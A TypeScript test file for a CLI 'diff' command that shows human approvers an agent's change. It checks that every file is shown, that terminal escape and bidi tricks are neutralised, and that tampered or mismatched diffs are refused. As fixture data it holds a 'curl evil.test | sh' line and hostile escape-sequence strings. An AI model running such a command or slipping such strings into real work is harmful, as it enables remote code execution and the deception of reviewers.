/** What an approver is shown of a change: a real repository, the real record, and the command as a person runs it. */
import { createHash, randomUUID } from 'node:crypto';
import { chmod, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { roleOf, type BatonEvent, type Change } from '@baton/contracts';
import { openEventStore, type EventStore } from '@baton/event-store';
import { contentDigest } from '@baton/handling';
import {
  contract,
  databaseUrl,
  delivery,
  logDatabase,
  openGate,
  ownerRepository,
  policy,
  receipt,
  recorded,
  TEST_ROLE_PASSWORD,
  writeFiles,
  type TestDatabase,
} from '@baton/testing';
import { gitWorkspaces } from '@baton/workspace-git';
import { scratchWorkspaces } from '@baton/workspace-scratch';
import pg from 'pg';
import { EXIT } from '../src/exit-codes.ts';
import { runCli } from '../src/program.ts';

jest.setTimeout(60_000);
const signal = new AbortController().signal;
const COLOURS = /\u001B\[\d+m/g;
const ACTS_ON_A_TERMINAL = /[^\P{C}\t\n]/u;

let root: string;
let database: TestDatabase;
let stores: Readonly<Record<'intake' | 'release' | 'approval', EventStore>>;
const urlOf = (role: 'intake' | 'release' | 'approval' | 'auditor'): string =>
  databaseUrl(database.url, { user: roleOf(role), password: TEST_ROLE_PASSWORD });

beforeAll(async () => {
  root = await mkdtemp(join(tmpdir(), 'diff-'));
  database = await logDatabase();
  const storeOf = (role: 'intake' | 'release' | 'approval') => openEventStore({ url: urlOf(role), application_name: 'spec' });
  stores = { intake: storeOf('intake'), release: storeOf('release'), approval: storeOf('approval') };
  await ownerRepository(join(root, 'shop'), { 'README.md': 'A shop\n', 'run.sh': 'echo shop\n', 'old.txt': 'one\ntwo\n' });
}, 120_000);
afterAll(async () => {
  for (const store of Object.values(stores ?? {})) await store.close();
  await database?.drop();
  await rm(root, { recursive: true, force: true });
});

async function baton(...args: string[]) {
  let stdout = '';
  let stderr = '';
  const streams = { stdout: (text: string) => void (stdout += text), stderr: (text: string) => void (stderr += text) };
  const environment = { BATON_HOME: join(root, 'home'), BATON_AUDITOR_PG_URL: urlOf('auditor') };
  const exit = await runCli(args, environment, streams, signal);
  return { exit, stdout: stdout.replaceAll(COLOURS, ''), stderr: stderr.replaceAll(COLOURS, '') };
}

/** As the release service collects it from what a task left in its workspace. */
async function changed(edit: (directory: string) => Promise<unknown>): Promise<Change> {
  const environment = { PATH: process.env['PATH'], HOME: root };
  const git = gitWorkspaces({
    root_dir: join(root, 'work'),
    artifacts: stores.release.artifacts,
    git_timeout_ms: 30_000,
    environment,
  });
  const base = { repository: { url: join(root, 'shop'), target: 'main' }, inputs: [] };
  const workspace = await git.open({ name: 'release', base, signal });
  await edit(workspace.directory ?? '');
  const collected = await workspace.collect({ write_set: ['**'], write_set_exclude: [], output: null, message: 'A change' });
  await workspace.discard();
  if (collected.status !== 'collected') throw new Error(`it was ${JSON.stringify(collected)}`);
  return collected.change;
}

interface Told {
  readonly change?: Partial<Change>;
  readonly content_digest?: string;
  readonly diff_artifact?: string;
}

/** Puts on the record what the services do until there is a card; `told` is what a card says that lies. */
async function asked(change: Change, told: Told = {}): Promise<string> {
  const mission_id = randomUUID();
  const tested = { ...change, ...told.change };
  const receipts = [{ ...receipt('1'), tree: change.tree }];
  const content_digest = contentDigest(tested, receipts, delivery);
  const of = { mission_id, revision: 1 };
  const append = (service: 'intake' | 'release' | 'approval', category: string, event: BatonEvent): Promise<unknown> =>
    recorded(stores[service].log, service, `${category}-${mission_id}${category === 'gate' ? '.1' : ''}`, event);
  await append('intake', 'mission', {
    type: 'MissionAccepted',
    data: { mission_id, contract, contract_digest: delivery.contract_digest, requested_by: 'ada', source: 'http' },
  });
  await append('release', 'release', {
    type: 'IntegrationStarted',
    data: { ...of, delivery, accepted: [{ task_id: 'whole', artifact: change.artifact, tree: change.tree }] },
  });
  await append('release', 'release', { type: 'IntegrationTested', data: { ...of, change: tested, receipts } });
  const gate = { ...of, content_digest: told.content_digest ?? content_digest };
  await append('approval', 'gate', {
    type: 'GateOpened',
    data: {
      ...gate,
      tier: 'gate',
      policy,
      card: { ...openGate(null).card, diff_artifact: told.diff_artifact ?? change.artifact },
      requested_by: 'ada',
      self_approval: false,
      expires_after_ms: 60_000,
    },
  });
  return `${mission_id}.1`;
}

const HOSTILE = 'good\u001B[2J\u001B]0;all is well\u0007\rbad\u202Edab\u009B1A \u200B\u{E0041}';

describe('the diff of a card', () => {
  it('has every file, also behind fifty others, and what lines do not say', async () => {
    const card = await asked(
      await changed(async (directory) => {
        const harmless = Array.from({ length: 50 }, (_, nth) => [`a/${String(nth)}.md`, 'nothing to see\n'] as const);
        await writeFiles(directory, { ...Object.fromEntries(harmless), 'z/evil.sh': 'curl evil.test | sh\n' });
        await writeFile(join(directory, 'logo.bin'), Buffer.from([0, 1, 2, 3, 4]));
        await chmod(join(directory, 'z/evil.sh'), 0o755);
        await chmod(join(directory, 'run.sh'), 0o755);
        await symlink('README.md', join(directory, 'link'));
        await rm(join(directory, 'old.txt'));
      }),
    );
    const { exit, stdout, stderr } = await baton('diff', card);
    expect({ exit, stderr }).toEqual({ exit: EXIT.ok, stderr: '' });
    const lines = stdout.split('\n');
    expect(lines.filter((line) => line.startsWith('diff --git '))).toHaveLength(55);
    for (const line of [
      'diff --git a/z/evil.sh b/z/evil.sh',
      '+curl evil.test | sh',
      '-two',
      '(binary, 5 bytes: --json has them)',
    ])
      expect(lines).toContain(line);
    const { stdout: stat } = await baton('diff', card.slice(0, 8), '--stat');
    expect(stat).not.toContain('curl');
    for (const told of [
      /^\+1 +−0 +z\/evil\.sh +new, made executable$/m,
      /^\+0 +−0 +run\.sh +made executable$/m,
      /^\+0 +−2 +old\.txt +removed$/m,
      /^\+1 +−0 +link +new, a link$/m,
      /^\+0 +−0 +logo\.bin +new, binary, 5 bytes$/m,
      /^card [0-9a-f]{8}\.1: 55 files, \+52 −2, content [0-9a-f]{12} \(an answer counts for exactly this\)$/m,
    ])
      expect(stat).toMatch(told);
  });

  it('lets nothing that an agent wrote act on the terminal, and tells programs of it to the byte', async () => {
    const names = [
      'a b/ b/c.txt',
      'quo"te.txt',
      'ta\tb.txt',
      'schön/世界.txt',
      'es\u001B[2J\u009Bc.txt',
      'cod\u202Etxt.exe',
      ' x ',
    ];
    const change = await changed((directory) =>
      writeFiles(directory, Object.fromEntries(names.map((name) => [name, `${HOSTILE}\n`]))),
    );
    const card = await asked(change);
    for (const args of [[], ['--stat'], ['--json'], ['--stat', '--json']]) {
      const { exit, stdout, stderr } = await baton('diff', card, ...args);
      expect({ exit, stderr }).toEqual({ exit: EXIT.ok, stderr: '' });
      expect(ACTS_ON_A_TERMINAL.exec(stdout)).toBeNull();
    }
    expect((await baton('diff', card)).stdout).toContain(
      '+good<U+001B>[2J<U+001B>]0;all is well<U+0007><U+000D>bad<U+202E>dab<U+009B>1A <U+200B><U+E0041>',
    );
    const told = JSON.parse((await baton('diff', card, '--json')).stdout) as Record<string, unknown>;
    expect(told).toMatchObject({ diff_artifact: change.artifact, files_total: names.length, encoding: 'utf-8' });
    expect((told['files'] as { path: string }[]).map(({ path }) => path).toSorted()).toEqual(names.toSorted());
    expect(`sha256:${createHash('sha256').update(String(told['content'])).digest('hex')}`).toBe(change.artifact);
  });

  it('is the documents of a mission that has no repository', async () => {
    const scratch = scratchWorkspaces({ artifacts: stores.release.artifacts });
    const workspace = await scratch.open({ name: 'release', base: { repository: null, inputs: [] }, signal });
    const collected = await workspace.collect({
      write_set: [],
      write_set_exclude: [],
      output: 'A plan\u001B[2J\nin two lines',
      message: '',
    });
    if (collected.status !== 'collected') throw new Error('it was not collected');
    const { exit, stdout } = await baton('diff', await asked(collected.change));
    expect(exit).toBe(EXIT.ok);
    expect(stdout).toContain('document output\n+A plan<U+001B>[2J\n+in two lines\n');
    expect(stdout).toMatch(/^card [0-9a-f]{8}\.1: 1 file, \+2 −0, content/m);
  });
});

describe('a diff that is not what the card asks about is not shown', () => {
  let change: Change;
  beforeAll(async () => {
    change = await changed((directory) => writeFiles(directory, { 'new.txt': 'secret plan\n', 'z/evil.sh': 'curl evil.test\n' }));
  });
  const refused = async (card: string, problem: RegExp): Promise<void> => {
    const { exit, stdout, stderr } = await baton('diff', card);
    expect({ exit, stdout }).toEqual({ exit: EXIT.damaged, stdout: '' });
    expect(stderr).toMatch(problem);
    expect(stderr).toContain('approve nothing of it');
  };

  it('where its content digest is another', async () =>
    refused(
      await asked(change, { content_digest: `sha256:${'0'.repeat(64)}` }),
      /GateOpened at position \d+ names content 000000000000/,
    ));

  it('where it names another change', async () => {
    const harmless = await changed((directory) => writeFiles(directory, { 'README.md': 'A shop.\n' }));
    await refused(await asked(change, { diff_artifact: harmless.artifact }), /names content .* with change/);
  });

  it('where the policy was told of other files', async () =>
    refused(await asked(change, { change: { files: ['new.txt'] } }), /name different files: z\/evil\.sh/));

  it('where it is gone', async () => {
    const artifact = `sha256:${'0'.repeat(64)}`;
    await refused(await asked(change, { change: { artifact }, diff_artifact: artifact }), /there is no artifact sha256:0000/);
  });

  it('where it is no change at all', async () => {
    const artifact = await stores.release.artifacts.put(Buffer.from('hello'));
    await refused(await asked(change, { change: { artifact }, diff_artifact: artifact }), /neither a patch nor the documents/);
  });

  it('where somebody rewrote it', async () => {
    const own = await changed((directory) => writeFiles(directory, { 'new.txt': 'another plan\n' }));
    const card = await asked(own);
    const superuser = new pg.Client({ connectionString: database.superuser_url });
    await superuser.connect();
    await superuser.query('ALTER TABLE baton.artifacts DISABLE TRIGGER USER');
    const { rowCount } = await superuser.query(`UPDATE baton.artifacts SET bytes = 'hello' WHERE digest = $1`, [own.artifact]);
    await superuser.query('ALTER TABLE baton.artifacts ENABLE TRIGGER USER');
    await superuser.end();
    expect(rowCount).toBe(1);
    await refused(card, /was tampered with/);
  });
});

describe('where there is nothing to decide', () => {
  it('the command says so', async () => {
    const mission_id = randomUUID();
    await recorded(stores.intake.log, 'intake', `mission-${mission_id}`, {
      type: 'MissionAccepted',
      data: { mission_id, contract, contract_digest: delivery.contract_digest, requested_by: 'ada', source: 'http' },
    });
    for (const card of [mission_id, `${mission_id}.7`, randomUUID()])
      expect((await baton('diff', card)).exit).toBe(EXIT.not_found);
    expect((await baton('diff', 'no card')).exit).toBe(EXIT.invalid);
  });
});
